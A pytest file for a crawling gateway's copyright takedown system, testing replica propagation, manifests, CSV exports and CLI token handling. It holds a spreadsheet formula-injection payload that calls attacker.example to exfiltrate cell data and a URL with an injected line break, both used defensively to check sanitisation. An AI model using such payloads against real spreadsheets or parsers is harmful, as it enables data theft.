"""Takedowns as a rights holder and the teams meet them: real gateway processes, a real
redis-server of the test's own, real sites on 127.0.0.1, curl and the `crawlwarden` CLI.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import threading
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import redis

from proxy.audit.record import utc_timestamp
from tests.budget_fixtures import RedisServer
from tests.budget_fixtures import own_redis  # noqa: F401 - a pytest fixture
from tests.forked_gateways import run_command
from tests.pg_fixtures import pg_admin_dsn  # noqa: F401 - a pytest fixture
from tests.pg_fixtures import pg_dsn  # noqa: F401 - a pytest fixture
from tests.support import ADMIN_TOKEN
from tests.support import AUDITOR_TOKEN
from tests.support import CRAWLWARDEN
from tests.support import OTHER_TEAM
from tests.support import OTHER_TOKEN
from tests.support import PROJECT
from tests.support import RESPECT_ALL
from tests.support import TEAM
from tests.support import Gateway
from tests.support import LocalCA
from tests.support import Reply
from tests.support import Site
from tests.support import base_policy
from tests.support import curl
from tests.support import policy_with
from tests.support import wait_for

HEADERS = {"X-Crawl-Project": PROJECT}
PROPAGATION_LIMIT = 1.0  # seconds: DESIGN.md, "takedown requests: cluster-wide within a second"
REDIS_PREFIX = "crawlwarden:blockstate:"


def fetch(gw: Gateway, url: str, team: str = TEAM, token: str | None = None, **headers: str):
    proxy = gw.proxy_url() if token is None else gw.proxy_url(team, token)
    return curl(url, proxy=proxy, headers={**HEADERS, **headers}, timeout=10)


def takedown_body(scope: str, *targets: str) -> dict[str, Any]:
    return {
        "rights_holder": "Example Pictures Ltd",
        "contact": "legal@pictures.example",
        "scope": scope,
        "targets": list(targets),
        "reason": "copyright: our catalogue, never licensed for AI training",
    }


def block_body(scope: str, *targets: str) -> dict[str, Any]:
    return {"scope": scope, "targets": list(targets), "reason": "tos", "source": "their terms"}


def shared_fleet(workdir: Path, redis_server: RedisServer, dsn: str) -> tuple[dict, list[str]]:
    """A policy with a signing key (a PostgreSQL log needs one) and the arguments that share
    Redis and the log."""
    private = workdir / "audit.key"
    cli("keys", "generate", "--private", private, "--public", workdir / "audit.pub")
    policy = policy_with(audit={"signing_key_file": str(private)})
    return policy, ["--redis-url", redis_server.url, "--audit-dsn", dsn]


def poll_until(gw: Gateway, url: str, status: int, started: float, limit: float = 10.0):
    """curl `url` through `gw` until it answers `status`; returns (result, seconds since
    `started`)."""
    while True:
        result = fetch(gw, url)
        elapsed = time.monotonic() - started
        if result.status == status or elapsed > limit:
            return result, elapsed
        time.sleep(0.01)


def cli(
    *args: str | Path, check: bool = True, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return run_command(
        [CRAWLWARDEN, *map(str, args)],
        text=True,
        check=check,
        timeout=120,
        env=None if env is None else {**os.environ, **env},
    )


# -- two replicas on one Redis -------------------------------------------------------------


def test_a_takedown_filed_on_one_replica_binds_the_other_within_a_second_and_after_restart(
    workdir: Path,
    site: Site,
    own_redis: RedisServer,  # noqa: F811
):
    shared = ["--redis-url", own_redis.url]
    policy = base_policy()
    target = site.url("site-a.test", "/gallery/cat.jpg")
    with (
        Gateway(workdir, policy, name="gw1", extra_args=shared) as gw1,
        Gateway(workdir, policy, name="gw2", extra_args=shared) as gw2,
    ):
        assert fetch(gw2, target).status == 200
        started = time.monotonic()
        status, filed = gw1.admin_request(
            "POST",
            "/v1/takedowns",
            ADMIN_TOKEN,
            takedown_body("prefix", site.url("site-a.test", "/gallery/")),
        )
        assert status == 201, filed
        refused, elapsed = poll_until(gw2, target, 451, started)
        assert refused.status == 451
        assert refused.headers["x-crawlwarden-reason"] == "takedown"
        body = refused.json()
        assert body["reason"] == "takedown" and body["rule"] == filed["id"]
        assert "Example Pictures Ltd" in body["detail"]
        print(f"takedown filed on gw1, enforced by gw2 after {elapsed:.3f} s")
        assert elapsed < PROPAGATION_LIMIT, f"gw2 enforced the takedown after {elapsed:.3f}s"
        reached = site.count("/gallery/cat.jpg")
        assert fetch(gw1, target).status == 451
        assert fetch(gw2, site.url("site-a.test", "/elsewhere/cat.jpg")).status == 200
        assert site.count("/gallery/cat.jpg") == reached  # refused before the site is asked

        # gw2 restarts; meanwhile a second takedown is filed that only Redis can tell it about.
        gw2.stop()
        status, second = gw1.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("domain", "site-b.test")
        )
        assert status == 201
        gw2.start()
        assert fetch(gw2, target).json()["rule"] == filed["id"]
        other = fetch(gw2, site.url("img.site-b.test", "/a.jpg"))
        assert other.status == 451 and other.json()["rule"] == second["id"]
        status, listed = gw2.admin_request("GET", "/v1/takedowns", AUDITOR_TOKEN)
        assert status == 200
        assert [t["id"] for t in listed["takedowns"]] == [filed["id"], second["id"]]

        # A replica that starts while Redis is down enforces its local copy.
        gw2.stop()
        own_redis.kill()
        gw2.start()
        assert fetch(gw2, target).json()["rule"] == filed["id"]
        assert fetch(gw2, site.url("site-b.test", "/")).json()["rule"] == second["id"]
        own_redis.start()

    # Every change is a record in the fetch log of the replica that made it.
    events = [r for r in gw1.export() if r.get("kind") == "takedown"]
    assert [e["rule"] for e in events] == [filed["id"], second["id"]]


def test_a_takedown_filed_just_after_redis_lost_its_data_loses_no_other(
    workdir: Path,
    site: Site,
    own_redis: RedisServer,  # noqa: F811
):
    # Filing B on an emptied Redis created its version counter again: the replicas took
    # Redis's state (B alone) for the fleet's, and takedown A was gone everywhere, mirrors too.
    shared = ["--redis-url", own_redis.url]
    policy = base_policy()
    old, new = site.url("old.test", "/a.jpg"), site.url("new.test", "/b.jpg")
    with (
        Gateway(workdir, policy, name="gw1", extra_args=shared) as gw1,
        Gateway(workdir, policy, name="gw2", extra_args=shared) as gw2,
    ):
        status, first = gw1.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("domain", "old.test")
        )
        assert status == 201
        assert poll_until(gw2, old, 451, time.monotonic())[0].status == 451
        client = redis.Redis.from_url(own_redis.url)
        client.flushall()
        client.close()
        status, second = gw1.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("domain", "new.test")
        )
        assert status == 201
        time.sleep(1.0)
        for gw in (gw1, gw2):
            for url, filed in ((old, first), (new, second)):
                refused, _ = poll_until(gw, url, 451, time.monotonic(), limit=5.0)
                assert refused.status == 451 and refused.json()["rule"] == filed["id"], gw.name
            status, listed = gw.admin_request("GET", "/v1/takedowns", AUDITOR_TOKEN)
            assert [t["id"] for t in listed["takedowns"]] == [first["id"], second["id"]]
        lost = [e for gw in (gw1, gw2) for e in gw.log_events("takedowns_shared_state_lost")]
        assert lost and first["id"] in lost[0]["written_back"]["takedowns"]


def test_takedowns_lost_from_redis_and_every_data_dir_come_back_from_the_fetch_log(
    workdir: Path,
    site: Site,
    own_redis: RedisServer,  # noqa: F811
    pg_dsn: str,  # noqa: F811
):
    # Redis flushed (or restarted without persistence) while the fleet was down, and the
    # replicas started again on empty data dirs (the chart's default emptyDir): the takedown
    # was gone, the URL fetched with 200, nothing logged (auditor probe). The fetch log in
    # PostgreSQL records every change.
    policy, shared = shared_fleet(workdir, own_redis, pg_dsn)
    url = site.url("old.test", "/a.jpg")
    with Gateway(workdir, policy, name="gw1", extra_args=shared) as gw1:
        status, filed = gw1.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("domain", "old.test")
        )
        assert status == 201
        assert fetch(gw1, url).status == 451
    client = redis.Redis.from_url(own_redis.url)
    client.flushall()
    client.close()
    with Gateway(workdir, policy, name="gw2", extra_args=shared) as gw2:  # (its own data dir)
        refused, _ = poll_until(gw2, url, 451, time.monotonic(), limit=10.0)
        assert refused.status == 451 and refused.json()["rule"] == filed["id"]
        [restored] = gw2.log_events("takedowns_restored_from_fetch_log")
        assert restored["takedowns"] == [filed["id"]]
        status, listed = gw2.admin_request("GET", "/v1/takedowns", AUDITOR_TOKEN)
        assert [t["id"] for t in listed["takedowns"]] == [filed["id"]]
        # and back in Redis, for every replica that starts after it
        with Gateway(workdir, policy, name="gw3", extra_args=shared) as gw3:
            assert fetch(gw3, url).json()["rule"] == filed["id"]
            assert not gw3.log_events("takedowns_restored_from_fetch_log")


def test_blocklist_changes_propagate_and_a_replica_catches_up_after_missed_messages(
    workdir: Path,
    site: Site,
    own_redis: RedisServer,  # noqa: F811
):
    shared = ["--redis-url", own_redis.url]
    policy = base_policy()
    url = site.url("www.stock.test", "/photo.jpg")
    with (
        Gateway(workdir, policy, name="gw1", extra_args=shared) as gw1,
        Gateway(workdir, policy, name="gw2", extra_args=shared) as gw2,
    ):
        started = time.monotonic()
        status, entry = gw1.admin_request(
            "POST",
            "/v1/blocklist",
            ADMIN_TOKEN,
            {
                "scope": "domain",
                "targets": ["stock.test"],
                "reason": "Terms section 4 forbid automated collection",
                "source": "https://stock.test/terms, read 2026-11-01",
            },
        )
        assert status == 201, entry
        refused, elapsed = poll_until(gw2, url, 451, started)
        assert refused.json()["reason"] == "tos_blocklist"
        assert refused.json()["rule"] == entry["id"]
        assert elapsed < PROPAGATION_LIMIT

        started = time.monotonic()
        status, _ = gw1.admin_request("DELETE", f"/v1/blocklist/{entry['id']}", ADMIN_TOKEN)
        assert status == 200
        allowed, elapsed = poll_until(gw2, url, 200, started)
        assert allowed.status == 200 and elapsed < PROPAGATION_LIMIT
        status, listed = gw2.admin_request("GET", "/v1/blocklist", AUDITOR_TOKEN)
        assert listed["entries"][0]["active"] is False

        # A change whose message nobody heard (written straight into Redis, no PUBLISH) is
        # picked up at the next resync.
        client = redis.Redis.from_url(own_redis.url)
        missed = {
            "id": "td-missed",
            "filed": "2026-11-28T00:00:00.000000Z",
            "rights_holder": "Quiet Archive",
            "contact": "quiet@archive.example",
            "scope": "domain",
            "targets": ["quiet.test"],
            "reason": "copyright",
            "filed_by": {"role": "admin", "token_fingerprint": "sha256:000000000000"},
        }
        client.hset(REDIS_PREFIX + "takedowns", "td-missed", json.dumps(missed))
        client.incr(REDIS_PREFIX + "version")
        started = time.monotonic()
        refused, elapsed = poll_until(gw2, site.url("quiet.test", "/"), 451, started, limit=15)
        assert refused.status == 451 and refused.json()["rule"] == "td-missed"
        assert elapsed < 5.0 + 2.0  # the resync interval, and some slack for a busy machine

        # Redis restarted without persistence: the replicas write their copy back, and a new
        # replica with an empty data dir learns every takedown from Redis.
        own_redis.restart()
        client = redis.Redis.from_url(own_redis.url)
        assert wait_for(lambda: client.get(REDIS_PREFIX + "version") is not None, timeout=15)
        with Gateway(workdir, policy, name="gw3", extra_args=shared) as gw3:
            refused = fetch(gw3, site.url("quiet.test", "/"))
            assert refused.status == 451 and refused.json()["rule"] == "td-missed"
            assert fetch(gw3, url).status == 200  # the removal survived too (a tombstone)
        client.close()

    kinds = [(r["kind"], r["rule"]) for r in gw1.export() if r.get("decision") == "event"]
    assert ("blocklist_add", entry["id"]) in kinds and ("blocklist_remove", entry["id"]) in kinds


def test_a_fetch_a_replica_forwarded_while_the_takedown_was_reaching_it_is_in_the_manifest(
    workdir: Path,
    site: Site,
    own_redis: RedisServer,  # noqa: F811
    pg_dsn: str,  # noqa: F811
):
    # Filed, but not yet announced (no version change, no message): each replica still enforces
    # what it had, as a replica does for up to a second, or longer when it missed the message.
    # What it forwarded meanwhile reached the site: its team must be told to delete it.
    policy, shared = shared_fleet(workdir, own_redis, pg_dsn)
    url = site.url("site-a.test", "/gallery/cat.jpg")
    with (
        Gateway(workdir, policy, name="gw1", extra_args=shared) as gw1,
        Gateway(workdir, policy, name="gw2", extra_args=shared) as gw2,
    ):
        before = fetch(gw2, url, **{"X-Crawl-Account": "before"})
        assert before.status == 200
        time.sleep(0.01)  # record timestamps are microseconds: "before" is before the filing
        takedown = {
            "id": "td-propagating",
            "filed": utc_timestamp(time.time()),
            "rights_holder": "Example Pictures Ltd",
            "contact": "legal@pictures.example",
            "scope": "url",
            "targets": [url],
            "reason": "copyright",
            "filed_by": {"role": "admin", "token_fingerprint": "sha256:000000000000"},
        }
        client = redis.Redis.from_url(own_redis.url)
        client.hset(REDIS_PREFIX + "takedowns", takedown["id"], json.dumps(takedown))
        during = fetch(gw2, url, **{"X-Crawl-Account": "during"})
        assert during.status == 200  # gw2 has not heard of it: the site was reached

        client.publish(REDIS_PREFIX + "changed", str(client.incr(REDIS_PREFIX + "version")))
        client.close()
        refused, _ = poll_until(gw2, url, 451, time.monotonic())
        assert refused.json()["rule"] == takedown["id"]  # after that: refused, nothing taken
        assert site.count("/gallery/cat.jpg") == 2

        def manifest_of_gw1() -> dict[str, Any]:
            status, manifest = gw1.admin_request(
                "GET", f"/v1/takedowns/{takedown['id']}/manifest", AUDITOR_TOKEN
            )
            assert status == 200
            return manifest

        # gw2's records reach the shared log within a moment (its spool is written through).
        wait_for(lambda: len(manifest_of_gw1()["records"]) >= 2)
        manifest = manifest_of_gw1()
        status, shown = gw1.admin_request("GET", f"/v1/takedowns/{takedown['id']}", AUDITOR_TOKEN)
        assert status == 200
    rows = [(r["replica"], r["account"], r["decision"]) for r in manifest["records"]]
    assert rows == [("gw2", "before", "forwarded"), ("gw2", "during", "forwarded")]
    assert manifest["records"][1]["ts"] > takedown["filed"]
    assert shown["manifest"]["records"] == 2 and shown["teams_outstanding"] == [TEAM]


# -- what a rights holder may send --------------------------------------------------------

MALFORMED_TARGETS = (
    "http://[::1/x.jpg",  # an IPv6 address not closed
    "http://[site-a.test]/x.jpg",  # a name in brackets
    "http://exa mple.test/x.jpg",  # no host has a space
    "http://site-a.test/x.jpg\nfoo",  # a line break a URL parser drops: it would be /x.jpgfoo
)


def test_a_malformed_target_is_refused_with_a_400_naming_it_and_nothing_is_filed(
    workdir: Path, site: Site
):
    with Gateway(workdir, base_policy()) as gw:
        for target in MALFORMED_TARGETS:
            for path, body in (
                ("/v1/takedowns", takedown_body("url", target)),
                ("/v1/blocklist", block_body("prefix", target)),
            ):
                status, answer = gw.admin_request("POST", path, ADMIN_TOKEN, body)
                assert status == 400, (path, target, answer)
                assert answer["error"].startswith(f"targets: {target!r}"), answer
        refused = cli(
            *("takedown", "file", "--admin", gw.admin, "--token", ADMIN_TOKEN),
            *("--rights-holder", "Example Pictures Ltd", "--contact", "legal@pictures.example"),
            *("--scope", "prefix", "--target", "http://[::1/gallery/", "--reason", "copyright"),
            check=False,
        )
        assert refused.returncode == 1
        assert "answered 400: targets: 'http://[::1/gallery/'" in refused.stderr
        status, listed = gw.admin_request("GET", "/v1/takedowns", AUDITOR_TOKEN)
        assert (status, listed["takedowns"]) == (200, [])
        status, blocks = gw.admin_request("GET", "/v1/blocklist", AUDITOR_TOKEN)
        assert (status, blocks["entries"]) == (200, [])


# -- the manifest against an export --------------------------------------------------------


def test_a_target_written_as_a_browser_shows_it_binds_and_finds_the_earlier_fetches(
    workdir: Path, site: Site
):
    # A rights holder copies the address bar: `café au lait.jpg`; clients send it encoded.
    site.routes["/g/caf%C3%A9%20au%20lait.jpg"] = Reply(
        body=b"a photo", headers={"Content-Type": "image/jpeg"}
    )
    sent = site.url("site-a.test", "/g/caf%C3%A9%20au%20lait.jpg")
    with Gateway(workdir, base_policy()) as gw:
        assert fetch(gw, sent).status == 200
        shown = site.url("site-a.test", "/g/café au lait.jpg")
        status, filed = gw.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("url", shown)
        )
        assert status == 201, filed
        for spelling in (sent, sent.replace("%C3%A9", "%c3%a9")):
            answer = fetch(gw, spelling)
            assert (answer.status, answer.json()["reason"]) == (451, "takedown"), spelling
        status, manifest = gw.admin_request(
            "GET", f"/v1/takedowns/{filed['id']}/manifest", AUDITOR_TOKEN
        )
    assert status == 200 and [r["url"] for r in manifest["records"]] == [sent]
    assert site.paths()["/g/caf%C3%A9%20au%20lait.jpg"] == 1


def test_a_url_with_a_query_binds_its_parameters_in_any_order_and_finds_earlier_fetches(
    workdir: Path, site: Site
):
    # Every framework reads these as the same parameters; each got past the takedown.
    site.routes["/q/img.jpg"] = Reply(body=b"a photo", headers={"Content-Type": "image/jpeg"})
    spellings = ("w=800&h=600", "h=600&w=800", "w=800&h=600&", "w=800&&h=600", "&w=%3800&h=600")
    with Gateway(workdir, base_policy()) as gw:
        earlier = site.url("site-a.test", "/q/img.jpg?h=600&w=800")
        assert fetch(gw, earlier).status == 200
        assert fetch(gw, site.url("site-a.test", "/q/img.jpg?w=400&h=300")).status == 200
        status, filed = gw.admin_request(
            "POST",
            "/v1/takedowns",
            ADMIN_TOKEN,
            takedown_body("url", site.url("site-a.test", "/q/img.jpg?w=800&h=600")),
        )
        assert status == 201, filed
        reached = site.count()
        for query in spellings:
            answer = fetch(gw, site.url("site-a.test", f"/q/img.jpg?{query}"))
            assert answer.status == 451, query
            assert answer.json()["rule"] == filed["id"]
        assert site.count() == reached  # refused before the site is asked
        assert fetch(gw, site.url("site-a.test", "/q/img.jpg?w=800")).status == 200  # not it
        status, manifest = gw.admin_request(
            "GET", f"/v1/takedowns/{filed['id']}/manifest", AUDITOR_TOKEN
        )
    assert status == 200 and [r["url"] for r in manifest["records"]] == [earlier]


def test_the_manifest_lists_exactly_the_earlier_fetches_an_export_shows_for_the_scope(
    workdir: Path, site: Site
):
    policy = policy_with(
        defaults={
            "respect": {
                "robots": False,
                "tdmrep": False,
                "noai": True,
                "content_usage": False,
                "image_metadata": False,
            }
        }
    )
    site.routes["/gallery/secret.jpg"] = Reply(
        body=b"opted-out bytes", headers={"Content-Type": "image/jpeg", "X-Robots-Tag": "noai"}
    )
    for name in ("1.jpg", "2.jpg", "4.jpg"):
        site.routes[f"/gallery/{name}"] = Reply(
            body=f"image {name}".encode(), headers={"Content-Type": "image/jpeg"}
        )
    prefix = site.url("site-a.test", "/gallery/")
    with Gateway(workdir, policy) as gw:
        a = site.url("site-a.test", "/gallery/")
        assert fetch(gw, a + "1.jpg", **{"X-Crawl-Account": "acct-1"}).status == 200
        assert fetch(gw, a + "2.jpg").status == 200
        assert fetch(gw, a + "secret.jpg").status == 451  # withheld: it reached the site
        assert fetch(gw, site.url("site-a.test", "/other/3.jpg")).status == 200
        assert fetch(gw, site.url("img.site-a.test", "/gallery/5.jpg")).status == 200
        other = {"team": OTHER_TEAM, "token": OTHER_TOKEN}
        assert fetch(gw, a + "1.jpg", **other).status == 200
        assert fetch(gw, a + "4.jpg?size=big", **other, **{"X-Crawl-Project": "p9"}).status == 200
        refused = fetch(gw, a + "2.jpg", **{"X-Crawl-Project": "not-ours"})
        assert refused.status == 403  # refused: never fetched, nothing to delete

        filed = json.loads(
            cli(
                "takedown",
                "file",
                "--admin",
                gw.admin,
                "--token",
                ADMIN_TOKEN,
                "--rights-holder",
                "Example Pictures Ltd",
                "--contact",
                "legal@pictures.example",
                "--scope",
                "prefix",
                "--target",
                prefix,
                "--reason",
                "copyright",
            ).stdout
        )
        assert fetch(gw, a + "1.jpg").json()["reason"] == "takedown"  # later: not in it

        manifest = json.loads(
            cli(
                "takedown", "manifest", filed["id"], "--admin", gw.admin, "--token", AUDITOR_TOKEN
            ).stdout
        )["records"]
        status, raw_csv = gw.admin_request(
            "GET", f"/v1/takedowns/{filed['id']}/manifest?format=csv", AUDITOR_TOKEN
        )
        assert status == 200
        records = gw.fetch_records()

    def in_scope(rec: dict[str, Any]) -> bool:
        parts = urlsplit(rec["url"])
        return (
            rec["kind"] == "fetch"
            and rec["decision"] in ("forwarded", "withheld")
            and rec["ts"] < filed["filed"]
            and parts.hostname == "site-a.test"
            and parts.port == site.port
            and parts.path.startswith("/gallery/")
        )

    fields = ("id", "replica", "seq", "ts", "team", "project", "account", "url", "content_sha256")
    expected = [{k: r[k] for k in fields} for r in records if in_scope(r)]
    assert [{k: m[k] for k in fields} for m in manifest] == expected
    assert len(expected) == 5
    assert {(m["team"], m["decision"]) for m in manifest} == {
        (TEAM, "forwarded"),
        (TEAM, "withheld"),
        (OTHER_TEAM, "forwarded"),
    }
    withheld = next(m for m in manifest if m["decision"] == "withheld")
    assert withheld["content_sha256"] == hashlib.sha256(b"opted-out bytes").hexdigest()
    rows = list(csv.DictReader(io.StringIO(raw_csv)))
    assert [r["id"] for r in rows] == [m["id"] for m in manifest]
    assert rows[0]["content_sha256"] == manifest[0]["content_sha256"]


FORMULA_ACCOUNT = '=HYPERLINK("https://attacker.example/?x="&A1,"details")'


def test_a_csv_opened_in_a_spreadsheet_shows_what_the_scraper_sent_and_runs_no_formula(
    workdir: Path, site: Site
):
    site.routes["/p.jpg"] = Reply(body=b"a photo", headers={"Content-Type": "image/jpeg"})
    url = site.url("site-a.test", "/p.jpg")
    sent = {"X-Crawl-Account": FORMULA_ACCOUNT, "X-Crawl-Project": "=1+2"}
    with Gateway(workdir, base_policy()) as gw:
        assert fetch(gw, url, team=OTHER_TEAM, token=OTHER_TOKEN, **sent).status == 200
        status, filed = gw.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("url", url)
        )
        assert status == 201, filed
        status, manifest_csv = gw.admin_request(
            "GET", f"/v1/takedowns/{filed['id']}/manifest?format=csv", AUDITOR_TOKEN
        )
        assert status == 200
        status, fetches_csv = gw.admin_request("GET", "/v1/fetches?format=csv", AUDITOR_TOKEN)
        assert status == 200
        status, manifest = gw.admin_request(
            "GET", f"/v1/takedowns/{filed['id']}/manifest", AUDITOR_TOKEN
        )
    exported = cli("audit", "export", "--data-dir", gw.data_dir, "--format", "csv").stdout
    # The fetch log and the JSON manifest keep what was sent ...
    [row] = manifest["records"]
    assert (row["account"], row["project"]) == (FORMULA_ACCOUNT, "=1+2")
    # ... and every CSV shows it behind a quote, so that no cell is a formula (OWASP).
    for name, text in (
        ("manifest", manifest_csv),
        ("GET /v1/fetches", fetches_csv),
        ("audit export", exported),
    ):
        rows = list(csv.DictReader(io.StringIO(text)))
        fetched = [r for r in rows if r["account"]]
        assert [(r["account"], r["project"]) for r in fetched] == [
            ("'" + FORMULA_ACCOUNT, "'=1+2")
        ], name
        formulas = [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
        assert formulas == [], name


def test_teams_confirm_deletion_until_none_is_outstanding(workdir: Path, site: Site):
    with Gateway(workdir, base_policy()) as gw:
        url = site.url("site-a.test", "/gallery/1.jpg")
        assert fetch(gw, url).status == 200
        assert fetch(gw, url, team=OTHER_TEAM, token=OTHER_TOKEN).status == 200
        auth = ("--admin", gw.admin, "--token", ADMIN_TOKEN)
        status, filed = gw.admin_request(
            "POST", "/v1/takedowns", ADMIN_TOKEN, takedown_body("url", url)
        )
        assert status == 201
        shown = json.loads(cli("takedown", "show", filed["id"], *auth).stdout)
        assert shown["teams_outstanding"] == sorted([TEAM, OTHER_TEAM])
        assert shown["manifest"]["teams"] == {OTHER_TEAM: 1, TEAM: 1}

        # Confirming nothing deleted closes nothing (auditor probe 6: "complete").
        cli("takedown", "confirm", filed["id"], "--team", TEAM, "--deleted", "0", *auth)
        shown = json.loads(cli("takedown", "show", filed["id"], *auth).stdout)
        assert shown["teams_outstanding"] == sorted([TEAM, OTHER_TEAM])
        assert shown["manifest"]["urls"] == {OTHER_TEAM: 1, TEAM: 1}
        confirmed = cli("takedown", "confirm", filed["id"], "--team", TEAM, "--deleted", "1", *auth)
        assert json.loads(confirmed.stdout)["team"] == TEAM
        shown = json.loads(cli("takedown", "show", filed["id"], *auth).stdout)
        assert shown["teams_outstanding"] == [OTHER_TEAM] and shown["status"] == "outstanding"
        cli("takedown", "confirm", filed["id"], "--team", OTHER_TEAM, "--deleted", "1", *auth)
        from_env = cli(
            "takedown",
            *("list", "--admin", gw.admin),
            env={"CRAWLWARDEN_ADMIN_TOKEN": ADMIN_TOKEN},
        )
        [listed] = json.loads(from_env.stdout)["takedowns"]
        assert listed["teams_outstanding"] == [] and listed["status"] == "complete"

        # The CLI's errors say what went wrong.
        refused = cli("takedown", "show", "td-nope", *auth, check=False)
        assert refused.returncode == 1 and "404" in refused.stderr
        no_token = cli("takedown", "list", "--admin", gw.admin, check=False)
        assert no_token.returncode == 2 and "CRAWLWARDEN_ADMIN_TOKEN" in no_token.stderr
        auditor = cli(
            "takedown",
            *("confirm", filed["id"], "--team", TEAM, "--deleted", "1"),
            *("--admin", gw.admin, "--token", AUDITOR_TOKEN),
            check=False,
        )
        assert auditor.returncode == 1 and "403" in auditor.stderr
        records = gw.fetch_records()
    confirmations = [r for r in records if r["kind"] == "takedown_confirmation"]
    assert sorted(r["team"] for r in confirmations) == sorted([TEAM, TEAM, OTHER_TEAM])
    assert all(r["rule"] == filed["id"] for r in confirmations)


def test_takedowns_bind_inside_tls_tunnels_and_for_whole_domains(
    workdir: Path, tls_site: Site, test_ca: LocalCA
):
    with Gateway(workdir, base_policy(), trusted_ca=test_ca.ca_cert) as gw:
        for body in (
            takedown_body("prefix", tls_site.url("site-a.test", "/gallery/")),
            takedown_body("domain", "site-b.test"),
        ):
            assert gw.admin_request("POST", "/v1/takedowns", ADMIN_TOKEN, body)[0] == 201

        def get(url: str):
            return curl(url, proxy=gw.proxy_url(), cacert=gw.ca_cert, headers=HEADERS)

        inside = get(tls_site.url("site-a.test", "/gallery/cat.jpg"))
        assert inside.status == 451 and inside.json()["reason"] == "takedown"
        assert tls_site.connections == 0  # refused inside the tunnel, before any upstream TLS
        assert get(tls_site.url("site-a.test", "/about")).status == 200
        connections = tls_site.connections
        # A whole domain is refused at CONNECT, and the tunnel opened to nowhere so that the
        # request in it is answered: the scraper sees the 451 and why, as over plain HTTP.
        whole = get(tls_site.url("www.site-b.test", "/"))
        assert (whole.returncode, whole.status) == (0, 451), whole.stderr
        assert whole.json()["reason"] == "takedown" and whole.json()["site"] == "site-b.test"
        assert tls_site.connections == connections  # the site was never connected to
        records = [r for r in gw.fetch_records() if r["kind"] == "fetch"]
    assert [(r["method"], r["reason"], r["status"]) for r in records] == [
        ("GET", "takedown", 451),
        ("GET", "ok", 200),
        ("CONNECT", "takedown", 200),  # the attempt, recorded even if no request follows
        ("GET", "takedown", 451),
    ]
    assert "tunnel opened to nowhere" in records[2]["note"]


def test_a_request_waiting_when_a_takedown_is_filed_is_refused_in_its_turn(
    workdir: Path, site: Site
):
    # A request held for its budget (delay mode), or waiting while the gateway read the site's
    # robots.txt, was forwarded after a takedown of its URL was filed meanwhile: checked once,
    # before the wait (auditor probe 3). "In force at once" covers it.
    policy = policy_with(
        defaults={"respect": RESPECT_ALL},  # robots.txt read before the first fetch
        sites=[
            {
                "id": "held",
                "match": ["held.test"],
                "rate": "15/min",
                "burst": 1,
                "on_exceed": "delay",
                "max_delay": "10s",
            }
        ],
    )
    site.routes["/robots.txt"] = Reply(body=b"User-agent: *\nAllow: /\n", delay=4.0)
    with Gateway(workdir, policy) as gw:
        assert fetch(gw, site.url("held.test", "/first.jpg")).status == 200  # reads its robots
        answers: dict[str, Any] = {}
        waiting = [
            ("held", site.url("held.test", "/gallery/a.jpg")),  # held 4 s for its turn
            ("robots", site.url("slow-robots.test", "/gallery/a.jpg")),  # robots.txt takes 4 s
        ]
        threads = [
            threading.Thread(target=lambda n=name, u=url: answers.__setitem__(n, fetch(gw, u)))
            for name, url in waiting
        ]
        for t in threads:
            t.start()
        time.sleep(0.5)  # the takedowns come 3 s or more before either goes on
        for host in ("held.test", "slow-robots.test"):
            status, _ = gw.admin_request(
                "POST",
                "/v1/takedowns",
                ADMIN_TOKEN,
                takedown_body("prefix", site.url(host, "/gallery/")),
            )
            assert status == 201
        for t in threads:
            t.join(30)
        for name in ("held", "robots"):
            assert answers[name].status == 451, (name, answers[name].status)
            assert answers[name].headers["x-crawlwarden-reason"] == "takedown"
    assert site.count("/gallery/a.jpg") == 0


def test_the_takedown_cli_sends_its_token_to_the_admin_api_only(workdir: Path):
    # Admin probe 6: with http_proxy set (a scraper's environment), or an admin URL that
    # redirects, the CLI sent `Authorization: Bearer <admin token>` there.
    # `capture` keeps every request it gets: the token must reach it neither way.
    with Site() as capture, Site() as redirecting, Gateway(workdir, base_policy()) as gw:
        redirecting.routes["/v1/takedowns"] = Reply(
            status=307, headers={"Location": capture.url("127.0.0.1", "/v1/takedowns")}
        )
        proxied = cli(
            *("takedown", "list", "--admin", gw.admin, "--token", ADMIN_TOKEN),
            env={"http_proxy": capture.url("127.0.0.1", ""), "no_proxy": "", "NO_PROXY": ""},
        )
        assert json.loads(proxied.stdout)["takedowns"] == []
        redirected = cli(
            *("takedown", "list", "--admin", redirecting.url("127.0.0.1", "")),
            *("--token", ADMIN_TOKEN),
            check=False,
        )
        assert redirected.returncode == 1 and "307" in redirected.stderr, redirected.stderr
        assert capture.seen == []
